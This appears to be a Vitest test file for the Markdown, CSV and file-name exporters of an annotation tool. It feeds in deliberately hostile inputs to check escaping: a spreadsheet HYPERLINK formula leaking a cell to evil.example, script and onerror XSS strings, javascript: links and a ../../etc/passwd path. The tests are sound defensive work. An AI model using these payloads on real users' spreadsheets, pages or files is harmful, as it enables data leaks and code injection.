import { readFileSync } from 'node:fs';
import { resolve } from 'node:path';
import { describe, expect, it } from 'vitest';
import type { Annotation } from '@/storage/model/annotation';
import { csvCell, toCsv } from '@/storage/formats/csv';
import { exportFileName } from '@/storage/formats/filename';
import { escapeMarkdownInline, markdownTag, toMarkdown } from '@/storage/formats/markdown';
import { printableUrl } from '@/storage/formats/printable-url';

const dir = resolve(__dirname, '../fixtures/export');
const expected = (name: string): string => readFileSync(resolve(dir, name), 'utf8');

const NETEASE = {
  url: 'https://www.163.com/dy/article/JH5K2E6T0519QIKK.html',
  pageKey: '163.com/article/JH5K2E6T0519QIKK',
  site: '163.com',
  title: '网易号：<b>震惊</b>！*专家* 称 #1 [图] a_b',
};
const WIKI = {
  url: 'https://en.wikipedia.org/wiki/Regression_testing',
  pageKey: 'en.wikipedia.org/wiki/Regression_testing',
  site: 'en.wikipedia.org',
  title: 'Regression testing - Wikipedia',
};
const UNTITLED = {
  url: 'https://example.com/post?id=7',
  pageKey: 'example.com/post?id=7',
  site: 'example.com',
  title: '',
};

/** The fixed set the expected files were written for. Input order is deliberately not page order. */
const FIXTURE: Annotation[] = [
  {
    id: '11111111-1111-4111-8111-111111111111',
    ...NETEASE,
    selectors: [
      { type: 'TextQuoteSelector', exact: '据知情人士透露，该公司将于下月裁员。', prefix: '。', suffix: '但' },
      { type: 'TextPositionSelector', start: 500, end: 518 },
    ],
    color: 'yellow',
    note: 'Who are the "insiders"? **No source.**',
    tags: ['来源不明', 'needs source'],
    created: '2026-11-20T09:00:00.000+08:00',
    updated: '2026-11-20T09:00:00.000+08:00',
    // Evidence addresses that would break a Markdown link or split a space-separated cell.
    assessment: {
      verdict: 'needs-source',
      evidence: ['https://example.com/report_(2026)?q=<b>x</b>', 'https://zh.wikipedia.org/wiki/裁员 名单', 'https://example.com/)](javascript:alert(1))'],
      claim: { category: 'vague' },
    },
  },
  {
    id: '22222222-2222-4222-8222-222222222222',
    ...NETEASE,
    selectors: [
      { type: 'TextPositionSelector', start: 100, end: 130 },
      { type: 'TextQuoteSelector', exact: '第一段：专家称“必然暴涨”。\n\n第二段：- 不是列表\n1. 也不是编号' },
    ],
    color: 'pink',
    note: '',
    tags: [],
    created: '2026-11-20T09:05:00.000+08:00',
    updated: '2026-11-20T09:05:00.000+08:00',
    assessment: { verdict: 'false', evidence: [] },
  },
  {
    id: '33333333-3333-4333-8333-333333333333',
    ...WIKI,
    selectors: [{ type: 'TextQuoteSelector', exact: 'Regression testing (rarely, non-regression testing)' }],
    color: 'green',
    note: 'Definition.\nSecond line of the note.',
    tags: ['#testing'],
    created: '2026-11-19T12:00:00Z',
    updated: '2026-11-19T12:00:00Z',
  },
  {
    id: '44444444-4444-4444-8444-444444444444',
    ...WIKI,
    selectors: [
      {
        type: 'TextQuoteSelector',
        exact: 'Therefore, in most software development situations, it is considered good coding practice',
      },
      { type: 'TextPositionSelector', start: 2728, end: 2960 },
    ],
    color: 'green',
    note: '',
    tags: ['a b  c'],
    created: '2026-11-21T08:00:00Z',
    updated: '2026-11-21T08:00:00Z',
  },
  {
    id: '55555555-5555-4555-8555-555555555555',
    ...UNTITLED,
    selectors: [
      {
        type: 'TextQuoteSelector',
        exact: '=HYPERLINK("http://evil.example/?"&A1,"click")',
        prefix: '-',
        suffix: '+1, "quoted"',
      },
    ],
    color: 'blue',
    note: '@mention\tand tab',
    tags: ['x', 'y'],
    created: '2026-11-22T00:00:00Z',
    updated: '2026-11-23T00:00:00Z',
  },
  {
    id: '66666666-6666-4666-8666-666666666666',
    ...UNTITLED,
    selectors: [
      { type: 'TextQuoteSelector', exact: '<script>alert(1)</script> & &amp; ==mark== %%c%% $x$ a|b ~~s~~ `code`' },
      { type: 'TextPositionSelector', start: 0, end: 10 },
    ],
    color: 'purple',
    note: '-5 degrees',
    tags: [],
    created: '2026-11-22T01:00:00Z',
    updated: '2026-11-22T01:00:00Z',
  },
];

describe('toMarkdown', () => {
  it('matches tests/fixtures/export/expected.md', () => {
    expect(toMarkdown(FIXTURE)).toBe(expected('expected.md'));
  });

  it('does not depend on input order', () => {
    expect(toMarkdown([...FIXTURE].reverse())).toBe(expected('expected.md'));
  });

  it('puts an optional top heading first', () => {
    expect(toMarkdown(FIXTURE.slice(2, 3), { heading: 'Sourcemark #highlights' })).toMatch(
      /^# Sourcemark \\#highlights\n\n## Regression testing - Wikipedia\n/,
    );
  });

  it.each([
    ['plain text', 'plain text'],
    ['*a* _b_ `c`', '\\*a\\* \\_b\\_ \\`c\\`'],
    ['[x](javascript:1)', '\\[x\\](javascript:1)'],
    ['[[wiki]] #tag', '\\[\\[wiki\\]\\] \\#tag'],
    ['<img onerror=x>', '\\<img onerror=x\\>'],
    ['a == b, 50%% off, x=1', 'a \\=\\= b, 50\\%\\% off, x=1'],
    ['&lt; &#60; & fish', '\\&lt; &\\#60; & fish'],
    ['back\\slash', 'back\\\\slash'],
    ['中文《标题》', '中文《标题》'],
  ])('escapeMarkdownInline(%j) = %j', (input, out) => {
    expect(escapeMarkdownInline(input)).toBe(out);
  });

  it.each([
    ['two words', '#two-words'],
    ['#already', '#already'],
    ['  padded\ttab ', '#padded-tab'],
    ['来源 不明', '#来源-不明'],
  ])('markdownTag(%j) = %j', (tag, out) => {
    expect(markdownTag(tag)).toBe(out);
  });

  it('is empty but well-formed for no annotations', () => {
    expect(toMarkdown([])).toBe('\n');
  });

  it('shows the verdict by its English name and id, under the quote and before the note', () => {
    const md = toMarkdown(FIXTURE.slice(0, 1));
    expect(md).toContain('> 据知情人士透露，该公司将于下月裁员。\n\n- Verdict: Needs a source (needs-source)\n- Claim: Vague source (vague)\n');
    expect(md.indexOf('- Evidence:')).toBeLessThan(md.indexOf('Who are the'));
  });

  it('writes a page address that holds markup as one autolink, not as HTML or a link', () => {
    const page = { ...FIXTURE[4]!, url: 'https://example.com/<img src=x onerror=alert(1)>[x](javascript:alert(1))' };
    expect(toMarkdown([page])).toContain('- URL: <https://example.com/%3Cimg%20src=x%20onerror=alert(1)%3E[x](javascript:alert(1))>\n');
  });

  it('keeps every evidence address inside one autolink that nothing in it can close or escape', () => {
    const evidence = FIXTURE[0]!.assessment!.evidence;
    const lines = toMarkdown(FIXTURE.slice(0, 1)).split('\n').filter((l) => l.startsWith('  - '));
    expect(lines).toHaveLength(evidence.length);
    for (const line of lines) expect(line).toMatch(/^ {2}- <https?:\/\/[^<>\s\\`]+>$/);
    expect(lines[0]).toBe('  - <https://example.com/report_(2026)?q=%3Cb%3Ex%3C/b%3E>');
  });
});

describe('toCsv', () => {
  it('matches tests/fixtures/export/expected.csv byte for byte', () => {
    expect(toCsv(FIXTURE)).toBe(expected('expected.csv'));
  });

  it('starts with a BOM and the header, and ends every record with CRLF', () => {
    const csv = toCsv([]);
    expect(csv).toBe(
      '\uFEFFid,page_title,url,site,quote,prefix,suffix,note,tags,color,created,updated,verdict,evidence,claim_category\r\n',
    );
  });

  it('puts the verdict, the evidence (one space between addresses) and the claim category last', () => {
    const [header, first] = toCsv(FIXTURE.slice(0, 1)).slice(1).split('\r\n');
    expect(header!.split(',').slice(-3)).toEqual(['verdict', 'evidence', 'claim_category']);
    const cells = first!.split(',').slice(-3);
    expect(cells[0]).toBe('needs-source');
    expect(cells[1]!.split(' ')).toHaveLength(FIXTURE[0]!.assessment!.evidence.length);
    expect(cells[2]).toBe('vague');
  });

  it.each([
    ['plain', 'plain'],
    ['a,b', '"a,b"'],
    ['say "hi"', '"say ""hi"""'],
    ['line\nbreak', '"line\nbreak"'],
    ['cr\rhere', '"cr\rhere"'],
    ['=1+1', "'=1+1"],
    ['+1', "'+1"],
    ['-1', "'-1"],
    ['@SUM(A1)', "'@SUM(A1)"],
    ['\tTAB', "'\tTAB"],
    ['\r=1', "\"'\r=1\""],
    ['=A1,"x"', '"\'=A1,""x"""'],
    ['a=1', 'a=1'],
    ['', ''],
  ])('csvCell(%j) = %j', (input, out) => {
    expect(csvCell(input)).toBe(out);
  });
});

describe('printableUrl', () => {
  it.each([
    ['https://en.wikipedia.org/wiki/Regression_(testing)', 'https://en.wikipedia.org/wiki/Regression_(testing)'],
    ['https://a.com/<img src=x onerror=alert(1)>', 'https://a.com/%3Cimg%20src=x%20onerror=alert(1)%3E'],
    ['https://a.com/x?q={a}|b^c\\d`e', 'https://a.com/x?q=%7Ba%7D%7Cb%5Ec%5Cd%60e'],
    ['http://localhost:8080/p?y=%%z&ok=%20', 'http://localhost:8080/p?y=%25%25z&ok=%20'],
    ['https://zh.wikipedia.org/wiki/裁员', 'https://zh.wikipedia.org/wiki/%E8%A3%81%E5%91%98'],
    ['https://例子.测试/a b', 'https://xn--fsqu00a.xn--0zwm56d/a%20b'],
  ])('%j → %j', (url, out) => {
    expect(printableUrl(url)).toBe(out);
  });
});

describe('exportFileName', () => {
  const day = new Date(2026, 10, 25, 12, 0, 0);
  it.each([
    ['jsonld', undefined, 'sourcemark-2026-11-25.jsonld'],
    ['md', undefined, 'sourcemark-2026-11-25.md'],
    ['csv', undefined, 'sourcemark-2026-11-25.csv'],
    ['md', '163.com', 'sourcemark-2026-11-25-163.com.md'],
    ['md', 'en.wikipedia.org', 'sourcemark-2026-11-25-en.wikipedia.org.md'],
    ['csv', '网易号：震惊！专家称', 'sourcemark-2026-11-25-网易号-震惊-专家称.csv'],
    ['jsonld', '../../etc/passwd', 'sourcemark-2026-11-25-etc-passwd.jsonld'],
    ['md', 'a/b\\c:d*e?f"g<h>i|j', 'sourcemark-2026-11-25-a-b-c-d-e-f-g-h-i-j.md'],
    ['md', '  😀 emoji 😀  ', 'sourcemark-2026-11-25-emoji.md'],
    ['md', '\u202eevil\u0000', 'sourcemark-2026-11-25-evil.md'],
    ['md', '...', 'sourcemark-2026-11-25.md'],
    ['md', '', 'sourcemark-2026-11-25.md'],
    ['md', 'x'.repeat(100), `sourcemark-2026-11-25-${'x'.repeat(60)}.md`],
  ] as const)('%s %j → %s', (kind, scope, name) => {
    expect(exportFileName(kind, day, scope)).toBe(name);
  });

  it('uses the local calendar date and pads it', () => {
    expect(exportFileName('md', new Date(2026, 0, 5, 0, 0, 1))).toBe('sourcemark-2026-01-05.md');
    expect(exportFileName('md', new Date(2026, 0, 5, 23, 59, 59))).toBe('sourcemark-2026-01-05.md');
  });

  it('throws on an invalid date', () => {
    expect(() => exportFileName('md', new Date('nope'))).toThrow(/invalid date/);
  });
});
